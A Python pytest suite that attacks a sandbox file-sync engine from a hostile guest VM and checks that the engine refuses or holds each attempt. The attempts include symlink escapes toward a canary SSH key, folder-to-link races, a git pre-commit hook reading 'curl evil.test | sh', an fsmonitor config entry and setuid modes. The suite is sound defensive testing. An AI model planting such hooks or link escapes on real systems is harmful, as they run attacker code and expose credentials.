"""A hostile guest on its own share, against the real SyncEngine with its real watcher.

The guest is root in its VM and controls every byte of the share: names, links, modes,
timing. Each case asserts that no byte outside the workspace was read into the share or
written on the host (a canary folder beside the workspace, checked by content and mtime),
and that what the host runs never arrives without a person."""

from __future__ import annotations

import asyncio
import os
import shutil
import stat
import threading
import time
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest_asyncio

from sandkit.sync.engine import HOLD_BURST, HOLD_PROTECTED, SyncEngine
from sandkit.sync.protect import DEFAULTS, Protected

SECRET = b"-----BEGIN OPENSSH PRIVATE KEY----- canary 7f3a"


@dataclass
class Canary:
    """Host files outside the workspace that an escape would read or write."""

    root: Path
    before: dict[str, tuple[bytes, int]] = field(default_factory=dict)

    def plant(self) -> None:
        (self.root / ".ssh").mkdir(parents=True)
        (self.root / ".ssh" / "id_ed25519").write_bytes(SECRET)
        (self.root / "autostart").mkdir()

    def snapshot(self) -> dict[str, tuple[bytes, int]]:
        out = {}
        for p in sorted(self.root.rglob("*")):
            st = p.lstat()
            data = p.read_bytes() if stat.S_ISREG(st.st_mode) else b"<dir>"
            out[p.relative_to(self.root).as_posix()] = (data, st.st_mtime_ns)
        return out


@dataclass
class Pair:
    host: Path
    share: Path
    engine: SyncEngine
    canary: Canary
    events: list[tuple[str, dict[str, object]]]

    def event_paths(self, name: str) -> set[str]:
        return {str(d.get("path")) for e, d in self.events if e == name}

    def host_links_stay_inside(self) -> None:
        for p in self.host.rglob("*"):
            if p.is_symlink():
                real = Path(os.path.realpath(p))
                assert real.is_relative_to(self.host.resolve()), f"{p} leads to {real}"


async def settle(check: Callable[[], bool], timeout: float = 8.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if check():
            return
        await asyncio.sleep(0.02)
    assert check(), "did not happen in time"


async def quiet(pair: Pair, seconds: float = 1.0) -> None:
    """Let the watcher see and apply everything (and the grace period pass)."""
    await asyncio.sleep(seconds)
    await settle(lambda: pair.engine.status != "syncing")


@pytest_asyncio.fixture
async def pair(tmp_path: Path) -> AsyncIterator[Pair]:
    canary = Canary(tmp_path / "home")
    canary.plant()
    host, share = tmp_path / "home" / "ws", tmp_path / "share"
    host.mkdir()
    share.mkdir()
    (host / "src").mkdir()
    (host / "src" / "main.py").write_text("print(1)\n")
    for i in range(12):
        (host / f"doc{i}.md").write_text(f"# notes {i}\n" * 20)
    (host / ".git" / "hooks").mkdir(parents=True)
    (host / ".git" / "config").write_text(
        '[core]\n\trepositoryformatversion = 0\n[remote "origin"]\n\turl = https://example.test/r.git\n'
    )
    events: list[tuple[str, dict[str, object]]] = []
    engine = SyncEngine(
        host, share, tmp_path / "state", delete_limit=20, grace=0.3, protected=Protected(DEFAULTS)
    )
    engine.listeners.append(lambda e, d: events.append((e, d)))
    stop, ready = asyncio.Event(), asyncio.Event()
    task = asyncio.get_running_loop().create_task(engine.run(stop, ready))
    await asyncio.wait_for(ready.wait(), 30)
    p = Pair(host, share, engine, canary, events)
    canary.before = outside(p)
    yield p
    stop.set()
    await asyncio.wait_for(task, 10)
    engine.close()


def outside(pair: Pair) -> dict[str, tuple[bytes, int]]:
    """Everything in the canary's home but the workspace (home/ws) itself."""
    return {
        k: v for k, v in pair.canary.snapshot().items() if k != "ws" and not k.startswith("ws/")
    }


def assert_canary(pair: Pair) -> None:
    assert outside(pair) == pair.canary.before, "a file outside the workspace changed"
    for tree in (pair.host, pair.share):
        for p in tree.rglob("*"):
            if p.is_file() and not p.is_symlink():
                assert SECRET not in p.read_bytes(), f"the canary leaked into {p}"


# -- links ------------------------------------------------------------------------------------
async def test_a_chain_of_links_that_each_look_inside_is_not_made_on_the_host(pair: Pair) -> None:
    (pair.share / "d").mkdir()
    (pair.share / "d" / "u1").symlink_to("..")  # the workspace root: inside
    await quiet(pair, 0.5)
    (pair.share / "p1").symlink_to("d/u1/..")  # the workspace's parent: outside
    (pair.share / "r").symlink_to("p1/.ssh")  # through p1: outside
    await settle(lambda: "p1" in pair.event_paths("link-refused"))
    await quiet(pair)
    assert not (pair.host / "p1").is_symlink()
    assert pair.engine.refused["p1"] == "d/u1/.."
    assert "link(s) refused" in pair.engine.status  # what `sandkit ls` shows
    pair.host_links_stay_inside()  # r may be made: without p1 it dangles inside
    # A later write "through" r in the sandbox is a plain folder there: never reaches .ssh.
    (pair.share / "r").unlink()
    (pair.share / "r").mkdir()
    (pair.share / "r" / "authorized_keys").write_text("ssh-ed25519 attacker\n")
    await quiet(pair)
    assert_canary(pair)


async def test_a_link_made_harmless_then_turned_outward_is_taken_back(pair: Pair) -> None:
    (pair.share / "d" / "u1").mkdir(parents=True)
    (pair.share / "p1").symlink_to("d/u1/..")  # d, while u1 is a folder: inside
    await settle(lambda: (pair.host / "p1").is_symlink())
    # Now u1 becomes a link to the root: p1 (d/u1/..) resolves to the root's parent.
    (pair.share / "d" / "u1").rmdir()
    (pair.share / "d" / "u1").symlink_to("..")
    await settle(lambda: not (pair.host / "p1").is_symlink())
    await quiet(pair)
    pair.host_links_stay_inside()
    assert_canary(pair)


async def test_absolute_and_dotdot_links_are_refused(pair: Pair) -> None:
    (pair.share / "abs").symlink_to(pair.canary.root / ".ssh" / "id_ed25519")
    (pair.share / "up").symlink_to("../../home/.ssh")
    (pair.share / "self").symlink_to("self/x")  # a loop
    (pair.share / "ok").symlink_to("src/main.py")
    await settle(lambda: (pair.host / "ok").is_symlink())
    await quiet(pair)
    for name in ("abs", "up", "self"):
        assert not (pair.host / name).is_symlink(), name
    assert_canary(pair)


async def test_a_folder_swapped_for_a_link_is_never_written_through(pair: Pair) -> None:
    autostart = pair.canary.root / "autostart"
    # The guest replaces src with a link to a host folder; the host then edits src/main.py
    # (sync would write the edit into the share "under src").
    (pair.share / "src" / "main.py").unlink()
    (pair.share / "src").rmdir()
    (pair.share / "src").symlink_to(autostart)
    (pair.host / "src" / "main.py").write_text("print(2)\n")
    (pair.host / "src" / "new.desktop").write_text("[Desktop Entry]\nExec=evil\n")
    await quiet(pair)
    assert list(autostart.iterdir()) == []
    assert (pair.host / "src" / "main.py").read_text() == "print(2)\n"  # never lost
    # "Put them back" (reject) must not write through the link either.
    if pair.engine.pending:
        await asyncio.to_thread(pair.engine.reject)
        await quiet(pair)
    assert list(autostart.iterdir()) == []
    assert_canary(pair)


async def test_a_folder_swapped_racing_the_sync_is_detected_not_followed(pair: Pair) -> None:
    autostart = pair.canary.root / "autostart"
    stop = threading.Event()

    def swap() -> None:  # the guest flips src between a folder and a link, as fast as it can
        src = pair.share / "src"
        aside = pair.share / ".src-aside"
        while not stop.is_set():
            try:
                src.rename(aside)
                src.symlink_to(autostart)
                time.sleep(0.001)
                src.unlink()
                aside.rename(src)
            except OSError:
                pass

    swapper = threading.Thread(target=swap, daemon=True)
    swapper.start()
    try:
        for i in range(40):
            (pair.host / "src" / f"f{i}.py").write_text(f"x = {i}\n")
            await asyncio.sleep(0.01)
        await asyncio.sleep(1.5)
    finally:
        stop.set()
        swapper.join(5)
    await quiet(pair)
    assert list(autostart.iterdir()) == []
    # The swaps are renames in the guest (src -> .src-aside): sync may follow them, but
    # every host file is still somewhere the user finds it: in place, where the guest
    # moved it, held, or in the trash.
    trash = pair.host.parent.parent / "state" / "trash"
    for i in range(40):
        name = f"f{i}.py"
        places = [pair.host / "src" / name, pair.host / ".src-aside" / name]
        assert any(p.exists() for p in places) or any(trash.rglob(name)), name
    assert_canary(pair)


async def test_host_side_links_are_never_read_through(pair: Pair) -> None:
    # A link on the host that leads out (the user's own, say) is copied as a link; the
    # guest then asks for a file "under" it by making that path in the share.
    (pair.host / "keys").symlink_to(pair.canary.root / ".ssh")
    await quiet(pair)
    (pair.share / "keys").unlink(missing_ok=True)
    (pair.share / "keys").mkdir()
    (pair.share / "keys" / "id_ed25519").write_text("")  # a sync "back" would read the key
    await quiet(pair)
    assert_canary(pair)


async def test_links_created_mid_batch_among_many_files(pair: Pair) -> None:
    (pair.share / "bulk").mkdir()
    for i in range(100):
        (pair.share / "bulk" / f"f{i}.txt").write_text(str(i))
        if i == 50:
            (pair.share / "bulk" / "u").symlink_to("..")
            (pair.share / "bulk" / "esc").symlink_to("u/..")
    await settle(lambda: (pair.host / "bulk" / "f99.txt").exists())
    await quiet(pair)
    pair.host_links_stay_inside()
    assert (pair.host / "bulk" / "f99.txt").read_text() == "99"
    assert_canary(pair)


# -- what the host runs ---------------------------------------------------------------------
async def test_git_hooks_from_the_sandbox_are_held_until_approved(pair: Pair) -> None:
    hook = pair.share / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\ncurl evil.test | sh\n")
    hook.chmod(0o755)
    await settle(lambda: ".git/hooks/pre-commit" in pair.engine.pending)
    await quiet(pair)
    assert not (pair.host / ".git" / "hooks" / "pre-commit").exists()
    assert hook.exists()  # the guest's copy stays as it is
    assert pair.engine.status == "paused"
    [held] = [h for h in pair.engine.held() if h["path"] == ".git/hooks/pre-commit"]
    assert held["why"] == HOLD_PROTECTED
    assert "curl evil.test" in held["diff"]
    await asyncio.to_thread(pair.engine.approve)
    assert (pair.host / ".git" / "hooks" / "pre-commit").read_text().startswith("#!/bin/sh")


async def test_protected_paths_rejected_are_taken_back_out_of_the_sandbox(pair: Pair) -> None:
    for rel in (".vscode/tasks.json", ".envrc", ".sandkit.yaml", "sub/.envrc", ".bashrc"):
        (pair.share / rel).parent.mkdir(parents=True, exist_ok=True)
        (pair.share / rel).write_text("evil\n")
    (pair.share / "README.md").write_text("ordinary\n")
    await settle(lambda: len(pair.engine.pending) == 5)
    await settle(lambda: (pair.host / "README.md").exists())  # the rest flows
    await quiet(pair)
    assert (pair.host / "README.md").read_text() == "ordinary\n"
    for rel in pair.engine.pending:
        assert not (pair.host / rel).exists(), rel
    await asyncio.to_thread(pair.engine.reject)
    await quiet(pair)
    assert not (pair.share / ".envrc").exists()
    assert not (pair.host / ".vscode").exists() or not (pair.host / ".vscode/tasks.json").exists()
    assert pair.engine.status != "paused"


async def test_git_config_ordinary_changes_pass_and_ones_that_run_programs_are_held(
    pair: Pair,
) -> None:
    config = pair.share / ".git" / "config"
    config.write_text(config.read_text() + '[branch "main"]\n\tremote = origin\n')
    await settle(lambda: "branch" in (pair.host / ".git" / "config").read_text())
    assert ".git/config" not in pair.engine.pending
    config.write_text(config.read_text() + "[core]\n\tfsmonitor = /tmp/evil.sh\n")
    await settle(lambda: ".git/config" in pair.engine.pending)
    await quiet(pair)
    assert "fsmonitor" not in (pair.host / ".git" / "config").read_text()


async def test_modes_lose_setuid_and_get_the_umask(pair: Pair) -> None:
    tool = pair.share / "tool"
    tool.write_text("#!/bin/sh\n")
    tool.chmod(0o6777)
    (pair.share / "world").write_text("w")
    (pair.share / "world").chmod(0o666)
    await settle(lambda: (pair.host / "tool").exists() and (pair.host / "world").exists())
    await quiet(pair)
    umask = pair.engine.umask
    assert stat.S_IMODE((pair.host / "tool").stat().st_mode) == 0o777 & ~umask
    assert stat.S_IMODE((pair.host / "world").stat().st_mode) == 0o666 & ~umask
    assert not (pair.host / "tool").stat().st_mode & (stat.S_ISUID | stat.S_ISGID)


# -- bursts ----------------------------------------------------------------------------------
async def test_a_burst_of_overwrites_is_held_and_loses_nothing(pair: Pair) -> None:
    before = {p.name: p.read_text() for p in pair.host.glob("doc*.md")}
    for i in range(12):
        (pair.share / f"doc{i}.md").write_text("")  # emptied
    await settle(lambda: len(pair.engine.pending) >= 12)
    await quiet(pair)
    assert {p.name: p.read_text() for p in pair.host.glob("doc*.md")} == before
    assert set(pair.engine.pending.values()) == {HOLD_BURST}
    await asyncio.to_thread(pair.engine.reject)
    await quiet(pair)
    assert (pair.share / "doc3.md").read_text() == before["doc3.md"]


async def test_one_file_workspace_survives_rm_rf(tmp_path: Path) -> None:
    host, share = tmp_path / "ws", tmp_path / "share"
    host.mkdir()
    share.mkdir()
    (host / "only.txt").write_text("my only work\n")
    engine = SyncEngine(host, share, tmp_path / "state", grace=0.2)
    stop, ready = asyncio.Event(), asyncio.Event()
    task = asyncio.get_running_loop().create_task(engine.run(stop, ready))
    try:
        await asyncio.wait_for(ready.wait(), 30)
        (share / "only.txt").unlink()  # rm -rf --no-preserve-root / in the guest
        await settle(lambda: "only.txt" in engine.pending)
        await asyncio.sleep(0.6)
        assert (host / "only.txt").read_text() == "my only work\n"
        await asyncio.to_thread(engine.reject)
        assert (share / "only.txt").read_text() == "my only work\n"
    finally:
        stop.set()
        await asyncio.wait_for(task, 10)
        engine.close()


async def test_deletions_paced_past_the_old_window_are_still_one_burst(pair: Pair) -> None:
    for i in range(6):
        (pair.host / f"more{i}.txt").write_text("x" * 10)
    await settle(lambda: (pair.share / "more5.txt").exists())
    await quiet(pair)
    for i in range(6):  # under every rule: applied after the grace period
        (pair.share / f"more{i}.txt").unlink()
    await settle(lambda: not (pair.host / "more5.txt").exists())
    await asyncio.sleep(31)  # past the 30 s window that pacing used to slip through
    for i in range(6):  # alone, under every rule too; with the first six, a burst
        (pair.share / f"doc{i}.md").unlink()
    await settle(lambda: len(pair.engine.pending) >= 6, timeout=10)
    assert all((pair.host / f"doc{i}.md").exists() for i in range(6))
    assert all((pair.host / f"more{i}.txt").exists() for i in range(6))  # restored too


async def test_a_link_loop_or_a_link_to_root_does_not_stall_the_sync(pair: Pair) -> None:
    # watchfiles' backend follows links when it adds watches: this loop once silenced
    # every later change from the sandbox. Neither side's watcher follows a link.
    (pair.share / "d").mkdir()
    (pair.share / "d" / "u1").symlink_to("..")
    (pair.share / "root").symlink_to("/")
    await asyncio.sleep(0.5)
    (pair.share / "after-the-loop.txt").write_text("still synced\n")
    await settle(lambda: (pair.host / "after-the-loop.txt").exists())
    assert not (pair.host / "root").is_symlink()


async def test_a_link_loop_the_sync_made_on_the_host_does_not_stall_host_edits(pair: Pair) -> None:
    # What a VM test's guest did: a harmless loop (d/u1 -> ..), links through it that
    # lead out, a git hook; the hook rejected, then all of it removed again. The loop had
    # been copied to the host as the link it is, and the host's watcher was watchfiles,
    # whose backend follows links when it sets watches: from then on the user's edits
    # no longer reached the sandbox.
    (pair.share / "d").mkdir()
    (pair.share / "d" / "u1").symlink_to("..")
    await asyncio.sleep(1)
    (pair.share / "p1").symlink_to("d/u1/..")
    (pair.share / "r").symlink_to("p1/ws")
    (pair.share / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\necho pwned\n")
    await settle(lambda: (pair.host / "d" / "u1").is_symlink())
    await settle(lambda: ".git/hooks/pre-commit" in pair.engine.pending)
    await asyncio.to_thread(pair.engine.reject)
    await quiet(pair)
    shutil.rmtree(pair.share / "d")
    for name in ("p1", "r"):
        (pair.share / name).unlink(missing_ok=True)
    await settle(lambda: not (pair.host / "d").exists())
    await quiet(pair)
    (pair.host / "after-the-loop.txt").write_text("the user's edit\n")
    await settle(lambda: (pair.share / "after-the-loop.txt").exists())
    assert_canary(pair)
